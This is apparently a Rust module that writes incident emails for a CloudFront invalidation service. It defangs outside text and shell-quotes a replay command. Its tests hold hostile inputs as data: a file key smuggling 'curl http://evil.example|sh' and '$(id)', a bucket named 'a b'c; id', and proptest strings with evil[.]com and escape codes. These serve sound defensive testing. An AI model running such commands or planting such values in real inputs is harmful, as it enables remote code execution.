//! The mails about incidents. Their subject and first lines are fixed, because people filter by them and
//! scripts read them: the bucket, an empty line, and the keys of the files.
//!
//! Keys of objects, and all that is in messages, come from outside. The mail shows them with nothing that a
//! mail program obeys or makes a link of, and marks what it quotes from a message. Its command is quoted for a
//! shell. The texts of CloudFront are not from outside.

use time::OffsetDateTime;
use time::macros::format_description;

use crate::defang::defanged;
use crate::error_file::{FOLDER, SUBJECT};
use crate::incident::{Claim, News};
use crate::replay::id_in_key;
use crate::shell::quote;
use crate::target::TargetId;
use crate::text::{Lines, one_line};

/// The subject of the mail when an incident is over.
pub const SUBJECT_OVER: &str = "[Over] CloudFront Invalidation";

/// Where a mail explains itself.
pub const DOCS: &str = "docs/operate.md#error-cloudfront-invalidation";

/// SNS accepts 256 KiB. Keys that do not fit are left out of the mail, but their files are written.
const MAX_KEYS_BYTES: usize = 60 * 1024;
const MAX_MAIL_BYTES: usize = 250 * 1024;

/// How many targets of an incident a mail names.
const MAX_TARGETS: usize = 20;

/// How many characters of a key or id are shown: S3 allows 1,024.
const MAX_KEY: usize = 1_024;

/// How many characters of a path, or of what a message says, are shown.
const MAX_SAMPLE: usize = 300;

/// What a mail says about where it comes from.
#[derive(Clone, Debug)]
pub struct Place {
    /// The error bucket.
    pub bucket: String,
    /// The URL of SubmitQueue.
    pub submit_queue: String,
    /// The account's number.
    pub account: String,
    /// The region.
    pub region: String,
    /// The name of the stack.
    pub stack: String,
}

/// A mail.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Mail {
    /// Below 100 characters, as SNS wants it.
    pub subject: &'static str,
    /// Below 256 KiB.
    pub text: String,
}

/// Writes one mail about incidents. Those that are over have a mail of their own.
pub fn mail(place: &Place, claims: &[Claim]) -> Mail {
    let is_over = claims.iter().all(|claim| claim.news == News::Over);
    let subject = if is_over { SUBJECT_OVER } else { SUBJECT };
    let of = |keys: fn(&Claim) -> &Vec<String>| {
        let mut all: Vec<&str> = Vec::new();
        for key in claims.iter().flat_map(keys) {
            if !all.contains(&key.as_str()) {
                all.push(key);
            }
        }
        all
    };
    let replayable = of(|claim| &claim.incident.untold.keys);
    let unreadable = of(|claim| &claim.incident.untold.unreadable);
    let mut text = Lines::new();
    text.line(format_args!("bucket : {}", place.bucket));
    text.line("");
    let shown = list_keys(&mut text, &replayable);
    list_keys(&mut text, &unreadable);
    let known = replayable.len() + unreadable.len();
    let files: u64 = claims.iter().map(|claim| claim.incident.untold.files).sum();
    if files > known as u64 || shown < replayable.len() {
        text.line(format_args!(
            "and more, see the folder {FOLDER} of the bucket"
        ));
    }
    text.line("");
    text.line(format_args!("account : {}", place.account));
    text.line(format_args!("region : {}", place.region));
    text.line(format_args!("stack : {}", place.stack));
    for claim in claims {
        text.line("");
        if text.as_str().len() > MAX_MAIL_BYTES / 2 {
            text.line("and more, see the function's log");
            break;
        }
        describe(&mut text, claim);
    }
    if shown > 0 {
        command(&mut text, place, &replayable[..shown]);
    }
    text.line("");
    text.line(format_args!("What the reasons mean: {DOCS}"));
    Mail {
        subject,
        text: text.into(),
    }
}

/// Lists keys line by line; returns how many fit.
fn list_keys(text: &mut Lines, keys: &[&str]) -> usize {
    let mut shown = 0;
    for key in keys {
        if text.as_str().len() > MAX_KEYS_BYTES {
            break;
        }
        text.line(defanged(key, MAX_KEY));
        shown += 1;
    }
    shown
}

fn describe(
    text: &mut Lines,
    Claim {
        code,
        news,
        incident,
    }: &Claim,
) {
    let since = time_of(incident.since);
    // A message that cannot be read has no paths, but a file of its own.
    let is_of_messages = incident.paths == 0;
    let (rejected, told) = match is_of_messages {
        true => (count(incident.files, "message"), incident.untold.files),
        false => (count(incident.paths, "path"), incident.untold.paths),
    };
    match news {
        News::First => text.line(format_args!("{code}: {rejected} rejected, since {since}")),
        News::Digest => text.line(format_args!(
            "{code}: still going on. {rejected} rejected since {since}, {told} of them since the last mail"
        )),
        News::Over => text.line(format_args!(
            "{code}: over. {rejected} rejected from {since} to {}",
            time_of(incident.last)
        )),
    }
    for (id, target) in incident.targets.iter().take(MAX_TARGETS) {
        let (id, alias) = (defanged(id, MAX_KEY), &target.alias);
        match is_of_messages {
            true => text.line(format_args!("  {id} ({alias})")),
            false => {
                let paths = count(target.paths, "path");
                text.line(format_args!("  {id} ({alias}): {paths}"));
            }
        }
    }
    if incident.targets.len() > MAX_TARGETS {
        let more = incident.targets.len() - MAX_TARGETS;
        text.line(format_args!("  and {more} more targets"));
    }
    let samples = incident.samples.iter();
    let samples: Vec<String> = samples.map(|it| defanged(it, MAX_SAMPLE)).collect();
    if is_of_messages {
        for sample in samples {
            text.line(format_args!("from the message: {sample}"));
        }
    } else if !samples.is_empty() {
        text.line(format_args!("sample paths: {}", samples.join(" ")));
    }
    for reason in &incident.reasons {
        text.line(format_args!("reason: {reason}"));
    }
    if *news == News::First {
        text.line(
            "While this goes on, a mail tells what was added: after 30 minutes, then after twice the time, at \
             most once a day.",
        );
    }
}

fn command(text: &mut Lines, place: &Place, keys: &[&str]) {
    let (ours, others): (Vec<&str>, Vec<&str>) = keys.iter().partition(|key| is_ours(key));
    text.line("");
    text.line("Once the cause is fixed, replay with:");
    let words = [
        "invalidatorctl",
        "replay",
        "--region",
        &place.region,
        "--bucket",
        &place.bucket,
        "--submit-queue",
        &place.submit_queue,
    ];
    let words: Vec<_> = words.into_iter().chain(ours).map(quote).collect();
    text.line(words.join(" "));
    if !others.is_empty() {
        text.line(
            "Files with odd names are left out of this command; the function did not write them.",
        );
    }
}

/// Whether the function gives a file such a key.
fn is_ours(key: &str) -> bool {
    id_in_key(key).is_ok_and(|id| id.parse::<TargetId>().is_ok())
}

fn count(number: u64, noun: &str) -> String {
    let plural = if number == 1 { "" } else { "s" };
    format!("{number} {noun}{plural}")
}

/// A time as people write it, in UTC.
fn time_of(seconds: u64) -> String {
    let format = format_description!("[year]-[month]-[day] [hour]:[minute] UTC");
    let seconds = i64::try_from(seconds).unwrap_or(i64::MAX);
    let time = OffsetDateTime::from_unix_timestamp(seconds).ok();
    let text = time.and_then(|time| time.format(format).ok());
    text.unwrap_or_else(|| one_line(&seconds.to_string(), 30))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error_file::Unreadable;
    use crate::incident::{Incidents, Rejection};
    use proptest::prelude::*;

    fn place() -> Place {
        Place {
            bucket: "errors".to_owned(),
            submit_queue: "https://sqs/1/submit.fifo".to_owned(),
            account: "123456789012".to_owned(),
            region: "eu-west-1".to_owned(),
            stack: "invalidator".to_owned(),
        }
    }

    fn rejection(target: &str, code: &str, n: usize) -> Rejection {
        Rejection {
            code: code.to_owned(),
            reason: format!("CloudFront CreateInvalidation: {code}: no. What to do: this."),
            target: target.to_owned(),
            alias: "www.example.org".to_owned(),
            paths: 12,
            samples: vec!["/a".to_owned(), "/b*".to_owned()],
            key: format!("{FOLDER}{n}_{target}.txt"),
            can_be_replayed: code != "UnreadableMessage",
        }
    }

    #[test]
    fn the_first_mail_a_digest_and_the_last_one() {
        let mut state = Incidents::default();
        let begin = 1_795_226_584;
        let next = |state: &mut Incidents, now: u64| {
            let claims = state.claim(now);
            state.sent(now, &claims, true);
            mail(&place(), &claims)
        };
        state.record(begin, &[rejection("E1", "AccessDenied", 1)]);
        let first = next(&mut state, begin);
        assert_eq!(first.subject, "[Error] CloudFront Invalidation");
        assert_eq!(
            first.text,
            "bucket : errors\n\n\
             invalidation_error/1_E1.txt\n\n\
             account : 123456789012\nregion : eu-west-1\nstack : invalidator\n\n\
             AccessDenied: 12 paths rejected, since 2026-11-21 02:03 UTC\n  \
             E1 (www.example.org): 12 paths\n\
             sample paths: /a /b*\n\
             reason: CloudFront CreateInvalidation: AccessDenied: no. What to do: this.\n\
             While this goes on, a mail tells what was added: after 30 minutes, then after twice the time, at most once a day.\n\n\
             Once the cause is fixed, replay with:\n\
             invalidatorctl replay --region eu-west-1 --bucket errors --submit-queue https://sqs/1/submit.fifo invalidation_error/1_E1.txt\n\n\
             What the reasons mean: docs/operate.md#error-cloudfront-invalidation\n"
        );
        state.record(begin + 60, &[rejection("E1", "AccessDenied", 2)]);
        state.record(begin + 60, &[rejection("E2", "AccessDenied", 3)]);
        let digest = next(&mut state, begin + 1_800);
        assert_eq!(digest.subject, "[Error] CloudFront Invalidation");
        assert!(
            digest.text.starts_with("bucket : errors\n\ninvalidation_error/2_E1.txt\ninvalidation_error/3_E2.txt\n\naccount"),
            "{}",
            digest.text
        );
        let goes_on = "AccessDenied: still going on. 36 paths rejected since 2026-11-21 02:03 UTC, 24 of them since the last mail\n  E1 (www.example.org): 24 paths\n  E2 (www.example.org): 12 paths\n";
        assert!(digest.text.contains(goes_on), "{}", digest.text);
        let over = next(&mut state, begin + 60 + 24 * 3_600);
        assert_eq!(over.subject, "[Over] CloudFront Invalidation");
        assert!(
            over.text.starts_with("bucket : errors\n\n\naccount")
                && over.text.contains("AccessDenied: over. 36 paths rejected from 2026-11-21 02:03 UTC to 2026-11-21 02:04 UTC\n")
                && !over.text.contains("replay"),
            "{}",
            over.text
        );
    }

    #[test]
    fn a_message_that_cannot_be_read_is_told_and_not_replayed() {
        let mut state = Incidents::default();
        let key = |n| format!("{FOLDER}{n}_unreadable.txt");
        let hostile = "`http://evil.example/\u{1b}[31m\n` is not the id of a distribution";
        let unreadable = [
            Unreadable::in_submit_queue("http://evil/`id`", hostile).rejection(&key(1)),
            Unreadable::in_buffer_queue("the body is of version 7").rejection(&key(2)),
        ];
        state.record(1, &unreadable);
        assert_eq!(
            mail(&place(), &state.claim(1)).text,
            "bucket : errors\n\n\
             invalidation_error/1_unreadable.txt\ninvalidation_error/2_unreadable.txt\n\n\
             account : 123456789012\nregion : eu-west-1\nstack : invalidator\n\n\
             UnreadableMessage: 2 messages rejected, since 1970-01-01 00:00 UTC\n  \
             BufferQueue (queue)\n  \
             SubmitQueue (queue)\n\
             from the message: message group http[:]//evil/`id`: `http[:]//evil[.]example/\\u{1b}[31m\\u{a}` is not the id of a distribution\n\
             from the message: the body is of version 7\n\
             reason: a message of SubmitQueue cannot be read, so it was not processed. Its file holds it as it was. What to do: find out who sends such messages; one that a newer version of the function wrote can be sent to SubmitQueue again.\n\
             reason: a message of BufferQueue cannot be read, so it was not processed. Its file holds it as it was. What to do: find out who sends such messages; one that a newer version of the function wrote can be sent to BufferQueue again.\n\
             While this goes on, a mail tells what was added: after 30 minutes, then after twice the time, at most once a day.\n\n\
             What the reasons mean: docs/operate.md#error-cloudfront-invalidation\n"
        );
    }

    /// The command of a mail about these files, as a shell reads its words.
    fn words_of_command(place: &Place, rejections: &[Rejection]) -> (Vec<String>, String) {
        let mut state = Incidents::default();
        state.record(1, rejections);
        let text = mail(place, &state.claim(1)).text;
        let command = text
            .lines()
            .find(|line| line.starts_with("invalidatorctl "));
        let script = format!("printf '%s\\0' {}", command.unwrap());
        let printed = std::process::Command::new("sh")
            .args(["-c", &script])
            .output()
            .unwrap();
        assert!(
            printed.status.success() && printed.stderr.is_empty(),
            "{script}"
        );
        let printed = String::from_utf8(printed.stdout).unwrap();
        let words = printed.strip_suffix('\0').unwrap().split('\0');
        (words.map(str::to_owned).collect(), text)
    }

    /// An id like this was in the mail as a link, and in its command as a command.
    #[test]
    fn the_command_is_one_command_whatever_the_names_are() {
        let good = rejection("E1", "AccessDenied", 1);
        let with_key = |key: &str| Rejection {
            key: format!("{FOLDER}{key}"),
            ..good.clone()
        };
        let hostile = [
            "1_E1; curl http://evil.example|sh; '$(id)'.txt",
            "2_E1\n; id.txt",
            "3_E1 4_E2.txt",
        ];
        let mut place = place();
        place.bucket = "a b'c; id".to_owned();
        let mut all: Vec<Rejection> = hostile.map(with_key).into();
        all.push(good.clone());
        let (words, text) = words_of_command(&place, &all);
        let expected = [
            "invalidatorctl",
            "replay",
            "--region",
            "eu-west-1",
            "--bucket",
            "a b'c; id",
            "--submit-queue",
            "https://sqs/1/submit.fifo",
            &good.key,
        ];
        assert_eq!(words, expected);
        let left_out = "Files with odd names are left out of this command";
        assert!(text.contains(left_out), "{text}");
    }

    /// A text of any kind, with what mail programs obey or make links of.
    fn hostile() -> impl Strategy<Value = String> {
        let text = prop_oneof![
            any::<String>(),
            "([a-z]|\u{1b}|\u{202e}|\n|http://|www[.]|evil[.]com|;|'|`|[$]){0,12}",
        ];
        (text, prop_oneof![9 => Just(1usize), 1 => Just(2_000)])
            .prop_map(|(text, n)| text.repeat(n))
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        #[test]
        fn no_mail_has_a_control_character_or_a_link_from_outside(
            messages in proptest::collection::vec((hostile(), hostile()), 0..4),
            paths in proptest::collection::vec((hostile(), hostile(), hostile()), 0..4),
        ) {
            let unreadable = messages.iter().flat_map(|(group, why)| {
                let key = format!("{FOLDER}1_unreadable.txt");
                let why = [Unreadable::in_submit_queue(group, why), Unreadable::in_buffer_queue(why)];
                why.map(|why| why.rejection(&key))
            });
            let rejected = paths.iter().map(|(target, sample, key)| Rejection {
                samples: vec![sample.clone()],
                key: key.clone(),
                alias: "site".to_owned(),
                ..rejection(target, "AccessDenied", 1)
            });
            let rejections: Vec<_> = unreadable.chain(rejected).collect();
            let mut state = Incidents::default();
            state.record(1, &rejections);
            let text = mail(&place(), &state.claim(1)).text;
            prop_assert!(text.chars().all(|c| c == '\n' || one_line(&c.to_string(), 1) == c.to_string()), "{text:?}");
            let of_ours = text.lines().filter(|line| !line.starts_with("invalidatorctl "));
            for line in of_ours.filter(|line| !line.starts_with("reason: ")) {
                for link in ["http://", "www.", "evil.com"] {
                    prop_assert!(!line.contains(link), "{line}");
                }
            }
            if rejections.iter().any(|it| it.can_be_replayed) {
                let (words, _) = words_of_command(&place(), &rejections);
                prop_assert!(words[8..].iter().all(|key| is_ours(key)), "{words:?}");
            }
        }
    }

    #[test]
    fn a_mail_of_many_files_stays_below_the_limit_of_sns_and_says_what_it_left_out() {
        let mut state = Incidents::default();
        for n in 0..5_000 {
            let (target, code) = (format!("E{n:05}"), format!("Code{}", n % 50));
            let mut rejection = rejection(&target, &code, n);
            rejection.reason = "\u{1b}[31m한\n".repeat(1_000);
            rejection.samples = vec!["/%ED%95%9C".repeat(400); 3];
            state.record(1, &[rejection]);
        }
        let Mail { subject, text } = mail(&place(), &state.claim(1));
        assert!(text.len() < 256 * 1024, "{}", text.len());
        assert!(subject.len() < 100 && SUBJECT_OVER.len() < 100);
        assert!(
            text.contains("and more, see the folder"),
            "{}",
            &text[..200]
        );
        let is_plain = |c: char| c == '\n' || !c.is_control();
        assert!(text.chars().all(is_plain));
    }
}
